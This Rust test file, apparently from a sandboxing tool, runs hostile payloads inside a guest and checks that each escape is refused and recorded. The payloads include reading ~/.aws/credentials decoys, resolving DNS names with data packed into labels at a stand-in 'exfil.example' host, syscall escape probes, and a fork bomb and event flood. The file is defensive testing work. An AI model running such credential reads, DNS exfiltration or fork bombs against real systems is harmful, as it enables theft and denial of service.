//! A payload that wants out: every known way is tried in the guest, and what
//! the trace says of it is held against what the payload was told.

use libtest_mimic::Trial;
use serde_json::Value;

use crate::support::*;

pub fn tests() -> Vec<Trial> {
    vec![
        test(
            "hostile::every_way_out_is_refused_and_recorded",
            &[Need::Guest],
            escape,
        ),
        test(
            "hostile::lookups_carry_nothing_out",
            &[Need::Guest],
            lookups,
        ),
        test(
            "hostile::fork_bomb_and_flood_end_and_lose_nothing_silently",
            &[Need::Guest],
            bomb,
        ),
        test(
            "hostile::a_flood_of_events_is_slowed_down_and_loses_nothing",
            &[Need::Guest],
            flood,
        ),
        test(
            "hostile::a_malicious_run_is_ended_where_nobody_watches",
            &[Need::Guest],
            condemned,
        ),
    ]
}

/// Reads a decoy; whatever comes behind it no longer happens.
fn condemned() -> Result {
    let dir = tempfile::tempdir()?;
    let (trace, project) = (dir.path().join("t.bjt"), dir.path().join("p"));
    std::fs::create_dir(&project)?;
    let script = "echo before; cat ~/.aws/credentials; sleep 30; echo behind";
    let mut command = belljar(["run", "--headless", "--format", "json", "--lure", "-o"]);
    command.arg(&trace).arg(&project);
    let done = output(command.args(["--", "sh", "-c", script]))?;
    let report = json(&done)?;
    check(done.status.code() == Some(1), || text(&done.stderr))?;
    check(report["verdict"] == "MALICIOUS", || {
        format!("{}", report["reasons"])
    })?;
    let events = events(&trace)?;
    let printed = terminal(&events);
    check(
        printed.contains("before") && !printed.contains("behind"),
        || printed.clone(),
    )?;
    let why = events
        .iter()
        .find(|event| event["kind"] == "ended")
        .map(|event| format!("{}", event["fact"]))
        .unwrap_or_default();
    check(
        why.contains("stopped") && why.contains("MALICIOUS (L4-HONEY-001)"),
        || why.clone(),
    )
}

/// What each probe must have been told.
const ANSWERS: &[(&str, &str)] = &[
    ("x32", "ENOSYS"),
    ("io_uring_setup", "ENOSYS"),
    ("clone3", "ENOSYS"),
    ("unshare", "EPERM"),
    ("mount", "EPERM"),
    ("chroot", "EPERM"),
    ("ptrace", "EPERM"),
    ("bpf", "EPERM"),
    ("userfaultfd", "EPERM"),
    ("keyctl", "EPERM"),
    ("open_by_handle_at", "EPERM"),
    ("kill_init", "EPERM"),
    ("tcp4", "ECONNREFUSED"),
    ("tcp4_metadata", "ECONNREFUSED"),
    ("tcp4_private", "ECONNREFUSED"),
    ("tcp4_fastopen", "ECONNREFUSED"),
    ("tcp6", "ECONNREFUSED"),
    ("tcp6_mapped", "ECONNREFUSED"),
    ("udp4", "ECONNREFUSED"),
    ("relay", "ECONNRESET"),
    ("sendmsg", "ECONNREFUSED"),
    ("sendmmsg", "OK"),
    ("kill", "OK"),
    ("tgkill", "OK"),
    ("sigqueue", "OK"),
    ("pidfd_signal", "OK"),
    ("setuid", "EPERM"),
    ("setresgid", "EPERM"),
    ("setgroups", "EPERM"),
    ("capset", "EPERM"),
    ("transfer", "OK"),
    ("int80", "SIGSYS"),
    ("chdir", "OK"),
    ("relative_decoy", "OK"),
    ("linked_decoy", "OK"),
    ("moved_folder", "OK"),
    ("moved_decoy", "OK"),
    ("memfd_exec", "OK"),
];

/// Refused one way or another; which errno is the kernel's business.
const REFUSED: &[&str] = &[
    "vsock",
    "packet",
    "raw",
    "mptcp",
    "vda",
    "proc1_environ",
    "cgroup",
];

fn escape() -> Result {
    let dir = tempfile::tempdir()?;
    let trace = dir.path().join("t.bjt");
    let project = repo("fixtures/packages/escape-artist");
    // What gcc did is told by then: the content of a program is read only soon
    // after it was executed.
    let script = "gcc -O1 -w -o /tmp/probe probe.c && sleep 3 && /tmp/probe";
    // Files are only watched: what the default policy denies is another test's.
    let words = ["--policy", "observe", "--", "sh", "-c", script];
    let live = output(&mut run(&project, &trace, &words))?;
    let report = json(&live)?;
    let events = events(&trace)?;
    let printed = terminal(&events);
    let answer = |name: &str| {
        let prefix = format!("{name}=");
        printed
            .lines()
            .find_map(|line| line.trim().strip_prefix(&prefix).map(str::to_owned))
    };
    for (name, expected) in ANSWERS {
        check(answer(name).as_deref() == Some(*expected), || {
            format!(
                "{name} answered {:?}, not {expected}; all:\n{printed}",
                answer(name)
            )
        })?;
    }
    for name in REFUSED {
        check(answer(name).is_some_and(|a| a != "OK"), || {
            format!("{name} answered {:?}; all:\n{printed}", answer(name))
        })?;
    }
    check(report["verdict"] == "MALICIOUS", || {
        format!("{}", report["reasons"])
    })?;
    let found = report["findings"].to_string();
    for decoy in [".ssh/id_rsa", ".aws/credentials", "nothing-to-see/config"] {
        check(found.contains(decoy), || {
            format!("no finding names {decoy}: {found}")
        })?;
    }
    check(report["lost"]["events"] == 0, || {
        format!("{}", report["lost"])
    })?;
    recorded(&events)?;
    let child = answer("child").ok_or("no child was printed")?;
    completed(&events, child.parse()?)?;
    // Nothing that a terminal obeys leaves through the report.
    let table = output(belljar(["report"]).arg(&trace))?;
    let hidden = table
        .stdout
        .iter()
        .any(|byte| *byte < 0x20 && *byte != b'\n');
    check(!hidden, || {
        format!("control characters in the report:\n{}", text(&table.stdout))
    })
}

/// The attempts are in the trace, with the names the kernel resolved.
fn recorded(events: &[Value]) -> Result {
    let has = |what: &str, test: &dyn Fn(&Value) -> bool| {
        check(events.iter().any(test), || format!("not recorded: {what}"))
    };
    for call in [
        "x32_syscall",
        "io_uring_setup",
        "unshare",
        "chroot",
        "keyctl",
        "open_by_handle_at",
        "mount",
        "ptrace",
        "bpf",
        "userfaultfd",
        "memfd_create",
    ] {
        has(call, &|event| event["type"] == call)?;
    }
    let file = |event: &Value| {
        event["fact"]["file"]
            .as_str()
            .unwrap_or_default()
            .to_owned()
    };
    has("the decoy behind a relative path", &|event| {
        event["fact"]["path"] == "id_rsa" && file(event).ends_with("/.ssh/id_rsa")
    })?;
    has("the decoy behind a link", &|event| {
        event["fact"]["path"] == "/tmp/a-link/credentials"
            && file(event).ends_with("/.aws/credentials")
    })?;
    has("the refused connect", &|event| {
        event["type"] == "connect" && event["result"] == -111
    })?;
    has("the refused datagram", &|event| {
        event["type"] == "sendto" && event["result"] == -111
    })?;
    has("the memfd's execution", &|event| {
        event["type"] == "execveat" && event["fact"]["unlinked"] == true
    })?;
    has("the death by seccomp", &|event| {
        event["kind"] == "exit" && event["fact"].to_string().contains("31")
    })?;
    has("the argument of 64 KiB, as cut", &|event| {
        event["type"] == "execve"
            && event["fact"]["argv_bytes"]
                .as_u64()
                .is_some_and(|n| n > 65_000)
    })
}

/// What is told of addresses in headers, signals, identities, descriptors,
/// contents, totals and use.
fn completed(events: &[Value], child: i64) -> Result {
    let has = |what: &str, test: &dyn Fn(&Value, &Value) -> bool| {
        let found = events.iter().any(|event| test(event, &event["fact"]));
        check(found, || format!("not recorded: {what}"))
    };
    has("the refused message", &|event, fact| {
        event["type"] == "sendmsg"
            && event["result"] == -111
            && fact["addr"] == "198.51.100.7:9998"
            && fact["bytes"] == 7
    })?;
    for (addr, result) in [("127.0.0.1:9997", true), ("198.51.100.7:9997", false)] {
        has(&format!("the message to {addr}"), &|event, fact| {
            event["type"] == "sendmmsg" && fact["addr"] == addr && (event["result"] == 1) == result
        })?;
    }
    for (call, signal) in [
        ("kill", 18),
        ("tgkill", 18),
        ("rt_sigqueueinfo", 18),
        ("pidfd_send_signal", 9),
    ] {
        has(&format!("the signal by {call}"), &|event, fact| {
            event["type"] == call
                && event["result"] == 0
                && fact["target"] == child
                && fact["signal"] == signal
        })?;
    }
    has("the signal to the agent", &|event, fact| {
        event["type"] == "kill" && event["result"] == -1 && fact["target"] == 1
    })?;
    let own = |event: &&Value| event["kind"] == "signal" && event["fact"]["target"] == event["pid"];
    check(!events.iter().any(|event| own(&event)), || {
        "a signal to itself was recorded".into()
    })?;
    for (call, ids) in [
        ("setuid", [0, 0, 0]),
        ("setresgid", [0, 0, 0]),
        ("setgroups", [2, 0, 27]),
        ("capset", [1 << 21, 1 << 21, 0]),
    ] {
        has(&format!("the change by {call}"), &|event, fact| {
            event["type"] == call && event["result"] == -1 && fact["ids"] == serde_json::json!(ids)
        })?;
    }
    has("the socket handed on as 17", &|event, fact| {
        event["type"] == "execve"
            && fact["argv"][0] == "handed"
            && fact["inherited"]
                .as_array()
                .is_some_and(|all| all.iter().any(|d| d["fd"] == 17 && d["what"] == "net"))
    })?;
    for (file, read, written) in [
        ("/tmp/transfer", 1000, 3000),
        ("/tmp/transfer-left-open", 0, 777),
    ] {
        has(&format!("the totals of {file}"), &|event, fact| {
            event["kind"] == "transfer"
                && fact["file"] == file
                && fact["read"] == read
                && fact["written"] == written
        })?;
    }
    has("the content of the probe", &|_, fact| {
        fact["file"] == "/tmp/probe" && fact["content"].as_str().is_some_and(|d| d.len() == 64)
    })?;
    has("a sample", &|event, fact| {
        event["kind"] == "sample"
            && fact["cpu_us"].as_u64() > Some(0)
            && fact["memory"].as_u64() > Some(0)
    })
}

/// Names with data in their labels: asked, refused, recorded in full, sent nowhere.
fn lookups() -> Result {
    let dir = tempfile::tempdir()?;
    let (trace, project) = (dir.path().join("t.bjt"), dir.path().join("p"));
    std::fs::create_dir(&project)?;
    let script = r#"import socket
label = "a1b2c3d4e5f6" * 4
for name in (f"{label}.exfil.example", f"{label[:20]}.{label[20:40]}.x.invalid"):
    try:
        socket.getaddrinfo(name, 443); print("resolved", name)
    except socket.gaierror as e:
        print("refused", name)
"#;
    let live = output(&mut run(&project, &trace, &["--", "python3", "-c", script]))?;
    let report = json(&live)?;
    let printed = terminal(&events(&trace)?);
    check(
        printed.matches("refused").count() == 2 && !printed.contains("resolved"),
        || printed.clone(),
    )?;
    let names = report["names"].to_string();
    check(
        names.contains(&"a1b2c3d4e5f6".repeat(4)) && names.contains("x.invalid"),
        || names.clone(),
    )?;
    check(
        report["network"]["flows"] == 0 && report["verdict"] != "SAFE",
        || format!("{} {}", report["verdict"], report["network"]),
    )
}

/// More processes and more output than anyone wants.
fn bomb() -> Result {
    let dir = tempfile::tempdir()?;
    let (trace, project) = (dir.path().join("t.bjt"), dir.path().join("p"));
    std::fs::create_dir(&project)?;
    let script = "yes flood | head -c 2000000; for i in $(seq 300); do (sleep 60 &) 2>/dev/null; done; echo done-here";
    let live = output(&mut run(
        &project,
        &trace,
        &["--pids", "128", "--", "sh", "-c", script],
    ))?;
    let report = json(&live)?;
    let verified = output(belljar(["verify"]).arg(&trace))?;
    check(code(&verified) == 0, || text(&verified.stdout))?;
    let limited = |event: &Value| event["kind"] == "limit" && event["fact"]["what"] == "pids";
    let told = events(&trace)?
        .iter()
        .filter(|event| limited(event))
        .count();
    check(told == 1, || {
        format!("the limit of processes was told {told} times")
    })?;
    check(report["verdict"] != "SAFE", || {
        format!("{}", report["reasons"])
    })?;
    // Whatever was lost is told and keeps the run from being SAFE.
    let lost = report["lost"]["events"].as_u64().unwrap_or(0);
    check(lost == 0 || report["verdict"] != "SAFE", || {
        format!("lost {lost} and {}", report["verdict"])
    })?;
    check(
        report["processes"]["started"]
            .as_u64()
            .is_some_and(|n| n > 50),
        || format!("{}", report["processes"]),
    )
}

/// Most events a second that the flood may make.
const PACE: u64 = 500;
/// How many calls it is made of.
const FLOOD: usize = 6000;

/// Calls as fast as they go, beside another process whose calls are held: every
/// other one is refused by the host, and each gets the answer that it should.
const FLOODING: &str = r#"
import os
for name in ("held", "free"):
    os.mkdir(f"/tmp/{name}")
pid = os.fork()
if pid == 0:
    for number in range(6000):
        try:
            os.open(f"/nowhere/{number}", os.O_RDONLY)
        except FileNotFoundError:
            pass
    os._exit(0)
refused = made = 0
for number in range(40):
    try:
        os.close(os.open(f"/tmp/held/{number}", os.O_WRONLY | os.O_CREAT))
    except PermissionError:
        refused += 1
    os.close(os.open(f"/tmp/free/{number}", os.O_WRONLY | os.O_CREAT))
    made += 1
os.waitpid(pid, 0)
print("refused", refused, "made", made)
"#;

/// What is held: one line decides against it, the other one is about somebody else.
const HELD: &str = r#"
[[rule]]
id = "held"
action = "deny"
condition = "evt.op = write and fs.path.name startswith /tmp/held/ and proc.name startswith python"
[[rule]]
id = "others"
action = "deny"
condition = "evt.op = write and fs.path.name startswith /tmp/free/ and proc.name = somebody"
"#;

fn flood() -> Result {
    let dir = tempfile::tempdir()?;
    let (trace, project) = (dir.path().join("t.bjt"), dir.path().join("p"));
    std::fs::create_dir(&project)?;
    let policy = dir.path().join("held.toml");
    std::fs::write(&policy, HELD)?;
    let policy = policy.to_str().ok_or("a path that is no text")?;
    let pace = PACE.to_string();
    let words = ["--event-rate", &pace, "--policy", policy];
    let words = [&words[..], &["--", "python3", "-c", FLOODING]].concat();
    let live = output(&mut run(&project, &trace, &words))?;
    let report = json(&live)?;
    let events = events(&trace)?;
    let printed = terminal(&events);
    check(printed.contains("refused 40 made 40"), || {
        format!("{printed}\n{}", text(&live.stderr))
    })?;
    // Each call is there, once, and nothing was lost.
    let mut numbers: Vec<_> = events
        .iter()
        .filter_map(|event| event["fact"]["path"].as_str()?.strip_prefix("/nowhere/"))
        .collect();
    let all = numbers.len();
    numbers.sort_unstable();
    numbers.dedup();
    check(all == FLOOD && numbers.len() == FLOOD, || {
        format!("{all} calls, {} different ones", numbers.len())
    })?;
    check(report["lost"]["events"].as_u64() == Some(0), || {
        report["lost"].to_string()
    })?;
    let answers = events.iter().filter(|event| event["kind"] == "answer");
    let denied = answers.filter(|event| event["fact"]["action"] == "deny");
    check(denied.count() == 40, || "not 40 denied answers".into())?;
    // By the guest's clock it never went faster for long.
    let at = |event: &Value| event["at"].as_u64();
    let of_payload = events
        .iter()
        .filter(|event| event["pid"].as_u64() > Some(0));
    let times: Vec<u64> = of_payload.filter_map(at).collect();
    let (first, last) = (times.iter().min(), times.iter().max());
    let span = last.zip(first).map_or(0, |(last, first)| last - first);
    let (count, seconds) = (times.len() as u64, span / 1_000_000_000);
    tell(&format!(
        "flood: {count} events in {seconds} s of the guest's, {PACE} a second allowed"
    ));
    check(seconds > 8 && count <= PACE * (seconds + 3), || {
        format!("{count} events in {seconds} s")
    })?;
    // It is told once, and said at the end, with what to do.
    let limits: Vec<_> = events
        .iter()
        .filter(|event| event["kind"] == "limit")
        .map(|event| event["fact"].to_string())
        .collect();
    let told = serde_json::json!({ "what": "events", "limit": PACE, "unit": "a second" });
    check(limits == [told.to_string()], || format!("{limits:?}"))?;
    let said = text(&live.stderr);
    check(
        said.contains("the limit of events was reached\n  hint: --event-rate raises it"),
        || said.clone(),
    )?;
    let reasons = report["reasons"].to_string();
    check(
        report["verdict"] != "SAFE"
            && reasons.contains("the limit of events was reached: 500 a second"),
        || reasons.clone(),
    )?;
    same_when_replayed(&live, &trace)
}
